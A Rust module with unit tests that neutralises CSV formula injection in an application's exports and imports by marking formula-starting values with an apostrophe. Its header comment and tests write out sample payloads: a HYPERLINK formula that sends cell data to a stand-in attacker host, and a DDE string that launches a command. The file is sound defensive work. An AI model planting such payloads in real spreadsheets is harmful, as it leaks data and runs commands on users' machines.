//! CSV formula injection (OWASP "CSV Injection"): a spreadsheet runs a cell that starts with `=`,
//! `+`, `-` or `@` (or a tab or carriage return before one) as a formula, so a name such as
//! `=HYPERLINK("https://evil.example/?"&A1)` in a file opened in Excel leaks or runs something.
//!
//! The export writes such a value with a leading apostrophe, which spreadsheets take as "text"
//! and do not show; a value that already starts with an apostrophe gets one more. The import
//! takes one leading apostrophe off every field. So import(export(v)) = v for every v, an export
//! round-trips, and a file that OPERA itself wrote (no apostrophes) imports as before. The one
//! cost: a value in an OPERA file that starts with an apostrophe loses it. Files of rejected
//! rows get an apostrophe only before a formula character, so that importing the corrected file
//! reads each field exactly as the first import did. docs/csv-export.md says the same.

/// The first characters that make a spreadsheet cell a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
/// Spreadsheets' marker of a text cell.
const TEXT_MARK: char = '\'';

/// A value as the export writes it.
pub(crate) fn neutralise(value: &str) -> std::borrow::Cow<'_, str> {
    match value.chars().next() {
        Some(c) if FORMULA_START.contains(&c) || c == TEXT_MARK => format!("{TEXT_MARK}{value}").into(),
        _ => value.into(),
    }
}

/// A field of a file of rejected rows: as read from the source, but never a formula.
pub(crate) fn neutralise_rejected(field: &[u8]) -> std::borrow::Cow<'_, [u8]> {
    match field.first() {
        Some(&b) if FORMULA_START.iter().any(|&c| c as u32 == u32::from(b)) => {
            let mut marked = vec![TEXT_MARK as u8];
            marked.extend_from_slice(field);
            marked.into()
        }
        _ => field.into(),
    }
}

/// A field as the import reads it (after trimming): one leading apostrophe removed.
pub(crate) fn restore(field: &str) -> &str {
    field.strip_prefix(TEXT_MARK).unwrap_or(field)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_marked_as_text_and_the_import_takes_the_mark_off() {
        let payloads = ["=HYPERLINK(\"http://x\")", "=cmd|' /C calc'!A0", "+45 1234", "-2+3", "@SUM(A1)"];
        for value in payloads.into_iter().chain(["\t=1", "\r=1", "'t Hooft", "''", "Ali", "", "x=1"]) {
            let written = neutralise(value);
            assert!(!written.starts_with(FORMULA_START), "{value:?} written as {written:?}");
            assert_eq!(restore(&written), value, "round trip of {value:?}");
        }
        assert_eq!(neutralise("=1+1"), "'=1+1");
        assert_eq!(neutralise("Ali Hassan"), "Ali Hassan");
    }

    #[test]
    fn a_rejected_row_reads_back_as_the_source_did() {
        for field in ["=1+1", "'=1+1", "'t Hooft", "Bo", "@x"] {
            let marked = neutralise_rejected(field.as_bytes());
            let marked = std::str::from_utf8(&marked).unwrap();
            assert!(!marked.starts_with(FORMULA_START), "{marked}");
            assert_eq!(restore(marked), restore(field), "{field}");
        }
    }
}
